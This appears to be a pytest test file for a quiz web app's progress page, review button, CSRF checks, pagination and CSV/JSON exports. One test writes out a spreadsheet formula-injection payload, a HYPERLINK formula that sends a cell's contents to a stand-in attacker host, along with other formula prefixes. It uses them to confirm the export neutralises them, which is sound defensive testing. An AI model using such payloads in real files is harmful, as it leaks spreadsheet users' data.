"""The My progress page, the Review button and the export, through the real pages and forms."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import func, select

from quizapp.days import day_number, day_start
from quizapp.extensions import db
from quizapp.models import Attempt, User, utcnow
from quizapp.progress import history_line, spreadsheet_safe
from quizapp.services.attempts import start_questions
from quizapp.services.progress import HistoryRow
from quizapp.services.review import REVIEW_TITLE

from .test_taking import RIGHT, TYPES, WRONG, Browser, Page, loaded, location  # noqa: F401 (a fixture)

pytestmark = pytest.mark.usefixtures("loaded")


class Clock:
    """The app's clock for these tests: real time plus an offset the test moves."""

    def __init__(self) -> None:
        self.offset = timedelta(0)

    def __call__(self) -> datetime:
        return utcnow() + self.offset


@pytest.fixture
def clock(app) -> Clock:
    app.config["QUIZAPP_CLOCK"] = clock = Clock()
    return clock


@pytest.fixture
def browser(client) -> Browser:
    return Browser(client)


def practise_all(browser: Browser) -> int:
    """Take the practice quiz: odd questions right, even ones wrong; then finish it."""
    attempt_id, _ = browser.start("practice")
    for position in range(1, 9):
        key = f"q{position}"
        browser.answer(attempt_id, position, TYPES[key], RIGHT[key] if position % 2 else WRONG[key])
    confirm = browser.get(f"/attempts/{attempt_id}/finish")
    browser.follow(browser.submit(confirm, "/finish"))
    return attempt_id


def download(browser: Browser, url: str):
    """A streamed download, read to the end inside the request's app context."""
    return browser.open("GET", url, buffered=True)


def table_rows(page: Page, caption_or_heading: str) -> list[list[str]]:
    """The body rows (cell texts) of the table after the heading or caption `caption_or_heading`."""
    start = page.html.index(caption_or_heading)
    body = re.search(r"<tbody>(.*?)</tbody>", page.html[start:], re.S).group(1)
    return [
        [
            " ".join(re.sub(r"<[^>]+>", " ", cell).split())
            for cell in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.S)
        ]
        for row in re.findall(r"<tr>(.*?)</tr>", body, re.S)
    ]


def test_the_page_is_linked_and_says_so_when_there_is_nothing_yet(browser):
    home = browser.get("/")
    assert 'href="/progress"' in home.html and "My progress" in home.text
    page = browser.get("/progress")
    assert "Nothing here for this browser yet" in page.text
    assert 'href="/sign-in?next=/progress"' in page.html or 'href="/sign-in?next=%2Fprogress"' in page.html
    assert db.session.scalar(select(func.count()).select_from(User)) == 0  # looking makes no guest


def test_progress_page_shows_history_chart_mastery_streak_and_due_reviews(browser, clock):
    practise_all(browser)
    page = browser.get("/progress")

    (attempt,) = table_rows(page, 'id="history-heading"')
    assert attempt[0] == "Practice all" and attempt[3] == "45% (5 of 11)"  # marks: q1 2, q6 3, others 1
    assert re.fullmatch(r"\d+ (min \d+ )?s", attempt[2]), attempt

    assert '<svg role="img" aria-labelledby="score-chart-caption"' in page.html
    chart = page.html[page.html.index("<svg") : page.html.index("</svg>")]
    assert "<script" not in chart  # pygal's scripts are left out: the chart needs no JavaScript
    assert page.html.count("<script") == 2  # local times and focus.js: the page does without either
    (week,) = table_rows(page, "figures as a table")
    assert week[0].startswith("Week of ") and week[1:] == ["8", "50%"]

    # Wrong answers count 0; answered right today, fsrs's recall is 100% (q1, q5 cite f1; q3, q7 f3).
    facts = {row[0]: row[1:] for row in table_rows(page, 'id="facts-heading"')}
    assert facts == {
        "Statement of f1.": ["100%", "2 of 2"],
        "Statement of f2.": ["0%", "2 of 2"],
        "Statement of f3.": ["100%", "2 of 2"],
        "Statement of f4.": ["0%", "2 of 2"],
    }
    assert table_rows(page, 'id="topics-heading"') == [["Topic one", "50%", "8 of 8"]]
    weakest = re.findall(r'<span class="fact-statement">(.*?)</span>', page.html)
    assert weakest[:2] == ["Statement of f2.", "Statement of f4."]
    assert "1 day studied in a row" in page.text
    assert "0 reviews due by the end of today" not in page.text  # the wrong answers come back within minutes

    # 01:00 tomorrow: a day later whatever the time now (a whole day more could skip past tomorrow)
    clock.offset = day_start(day_number(utcnow()) + 1) + timedelta(hours=1) - utcnow()
    later = browser.get("/progress")
    assert "1 day studied in a row (answer a question today to keep it going)" in later.text
    due_today = int(re.search(r"(\d+) reviews? due by the end of today", later.text).group(1))
    assert 4 <= due_today <= 8
    due_now = int(re.search(r"(\d+) questions? (?:is|are) due now", later.text).group(1))
    rest = f"the other {due_today - due_now} of today's come due later today"  # "due today" explained
    assert (rest in later.text) == (due_today > due_now), later.text


def test_practise_this_starts_practice_on_the_weak_fact(browser):
    practise_all(browser)
    page = browser.get("/progress")
    forms = [f for f in page.forms if f.action.endswith("/practise")]
    assert [f.value("facts") for f in forms][:2] == ["f2", "f4"]
    started = browser.follow(browser.post(forms[0].action, forms[0].values()))
    assert "Question 1 of 2" in started.text
    assert any(f"Prompt of {q}" in started.text for q in ("q2", "q6"))


def test_review_button_with_nothing_due_says_when_and_starts_the_due_questions_later(browser, clock):
    home = browser.get("/")
    assert not [f for f in home.forms if f.action.endswith("/review")]  # a new visitor has nothing to review
    token = home.form("/practise").values()["csrf_token"]
    response = browser.post("/review", {"csrf_token": token, "back": "home"})  # posted anyway
    assert location(response) == "/"
    assert "Nothing to review yet" in browser.follow(response).text

    practise_all(browser)
    page = browser.get("/progress")
    assert not [f for f in page.forms if f.action.endswith("/review")]  # nothing due: no button here
    assert "Nothing is due now; the next question is due at" in page.text
    response = browser.post("/review", {"csrf_token": token, "back": "progress"})  # an older page's button
    assert location(response) == "/progress"
    message = browser.follow(response).text
    assert re.search(
        r"Nothing is due for review\. The next question is due at \d\d:\d\d UTC on .* \(in ", message
    )

    clock.offset = timedelta(days=2)
    response = browser.submit(browser.get("/"), "/review")
    match = re.fullmatch(r"/attempts/(\d+)/1", location(response))
    assert match
    attempt = db.session.get(Attempt, int(match.group(1)))
    assert attempt.title == REVIEW_TITLE and attempt.mode == "practice"
    assert 4 <= len(attempt.slots) <= 8
    again = browser.submit(browser.get("/progress"), "/review")
    assert location(again) == location(response)  # the open review is resumed, not doubled


def test_posts_need_the_csrf_token(browser, clock):
    practise_all(browser)
    clock.offset = timedelta(days=2)
    before = db.session.scalar(select(func.count()).select_from(Attempt))
    page = browser.get("/progress")
    response = browser.submit(page, "/review", drop=("csrf_token",))
    assert response.status_code == 400
    response = browser.submit(page, "/review", fields={"csrf_token": "forged"})
    assert response.status_code == 400
    assert db.session.scalar(select(func.count()).select_from(Attempt)) == before


def test_export_csv_and_json_hold_my_data_only(browser, client, app):
    practise_all(browser)
    files = {
        kind: download(browser, f"/progress/export/{kind}.csv") for kind in ("attempts", "answers", "reviews")
    }
    for kind, response in files.items():
        assert response.status_code == 200 and response.mimetype == "text/csv"
        assert f'filename="quizapp-{kind}.csv"' in response.headers["Content-Disposition"]
    texts = {kind: response.get_data(as_text=True) for kind, response in files.items()}
    assert all(text.startswith("\ufeff") for text in texts.values())  # so that spreadsheets read UTF-8
    rows = {
        kind: list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))) for kind, text in texts.items()
    }
    assert [r["title"] for r in rows["attempts"]] == ["Practice all"]
    assert rows["attempts"][0]["state"] == "finished" and rows["attempts"][0]["score"] == "5.0"
    assert [r["question"] for r in rows["answers"]] == [f"q{i}" for i in range(1, 9)]
    # Answers as the taker gave them, in words: never the bank positions a response is stored as.
    assert [r["answer"] for r in rows["answers"]][3:7] == [
        "Sydney",
        "2010",
        "1. third 5\n2. second 5\n3. first 5",
        "l0 6 → r0 6\nl1 6 → r1 6\nl2 6 → r2 6",
    ]
    assert rows["answers"][0]["prompt"] and rows["answers"][3]["fraction"] == "0.0"
    assert [r["rating"] for r in rows["reviews"]][1::2] == ["again"] * 4

    everything = json.loads(download(browser, "/progress/export.json").get_data(as_text=True))
    assert set(everything) == {"exported_at", "attempts", "answers", "reviews"}
    assert len(everything["answers"]) == 8 and len(everything["reviews"]) == 8
    assert everything["answers"][0]["answer"] == "right 0"
    assert download(browser, "/progress/export/secrets.csv").status_code == 404

    stranger = Browser(app.test_client())
    stranger.start("exam")  # a user of its own, with an attempt
    theirs = json.loads(download(stranger, "/progress/export.json").get_data(as_text=True))
    assert [a["title"] for a in theirs["attempts"]] == ["Exam all"]
    assert theirs["answers"] == [] and theirs["reviews"] == []
    # an answer saved in an unfinished exam is the taker's data too: exported, ungraded, no verdict
    [exam] = theirs["attempts"]
    assert stranger.answer(exam["attempt_id"], 3, "true_false", "True", go="next").status_code == 302
    theirs = json.loads(download(stranger, "/progress/export.json").get_data(as_text=True))
    [saved] = theirs["answers"]
    assert (saved["answer_id"], saved["question"], saved["fraction"]) == (None, "q3", None)
    assert saved["graded"] is False
    assert saved["answer"] == "True" and saved["answered_at"]
    assert theirs["reviews"] == []
    assert "Practice all" not in stranger.get("/progress").text
    nobody = Browser(app.test_client())
    header = download(nobody, "/progress/export/answers.csv").get_data(as_text=True).strip()
    fields = ["answer_id", "attempt_id", "question", "question_version", "prompt", "answered_at", "fraction"]
    assert header == "\ufeff" + ",".join(f'"{name}"' for name in [*fields, "answer", "graded"])


def test_text_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(browser):
    practise_all(browser)
    title = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    db.session.scalars(select(Attempt)).one().title = title
    db.session.commit()
    text = download(browser, "/progress/export/attempts.csv").get_data(as_text=True)
    (row,) = csv.DictReader(io.StringIO(text.removeprefix("\ufeff")))
    assert row["title"] == "'" + title
    # every cell quoted: a spreadsheet splitting on ";" finds no formula inside one
    assert all(
        line.startswith('"') and line.endswith('"') for line in text.removeprefix("\ufeff").splitlines()
    )
    assert row["score"] == "5.0"  # numbers stay numbers
    for dangerous in ("+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert spreadsheet_safe(dangerous) == "'" + dangerous
    assert spreadsheet_safe("Practice all") == "Practice all" and spreadsheet_safe(-1.5) == -1.5


def test_history_is_paginated_newest_first(browser):
    browser.start("practice")
    user_id = db.session.scalar(select(User.id))
    start = utcnow() - timedelta(days=30)
    for i in range(24):
        start_questions(
            db.session, user_id, ["q1"], title=f"Old practice {i}", now=start + timedelta(hours=i)
        )
    db.session.commit()
    first = browser.get("/progress")
    rows = table_rows(first, 'id="history-heading"')
    assert (
        len(rows) == 20
        and rows[0][0] == "Practice all (in progress)"
        and rows[1][0] == "Old practice 23 (in progress)"
    )
    assert "Page 1 of 2" in first.text and 'rel="next"' in first.html and 'rel="prev"' not in first.html
    assert 'href="/progress?page=2#history-heading"' in first.html  # lands on the table, below the mastery
    second = browser.get("/progress?page=2")
    assert [r[0] for r in table_rows(second, 'id="history-heading"')] == [
        f"Old practice {i} (in progress)" for i in range(4, -1, -1)
    ]
    assert "Newer attempts" in second.text
    assert "Page 2 of 2" in browser.get("/progress?page=99").text


def test_the_held_back_message_is_worded_for_one_question_or_several():
    from quizapp.progress import nothing_due_message

    now = datetime(2026, 1, 5, 9, 0, tzinfo=UTC)
    assert nothing_due_message(None, now, held=1).startswith("The 1 question due belongs to a quiz")
    assert "so it comes back" in nothing_due_message(None, now, held=1)
    several = nothing_due_message(None, now, held=3)
    assert several.startswith("The 3 questions due belong to a quiz") and "so they come back" in several


def test_history_rows_round_scores_to_two_decimals(app):
    row = HistoryRow(7, "Quiz", "practice", "finished", datetime(2026, 1, 1, tzinfo=UTC), None, 49 / 6, 10.0)
    with app.test_request_context("/progress"):
        line = history_line(row)
    assert line.score == "82% (8.17 of 10)" and line.href == "/attempts/7/review" and line.duration == "—"
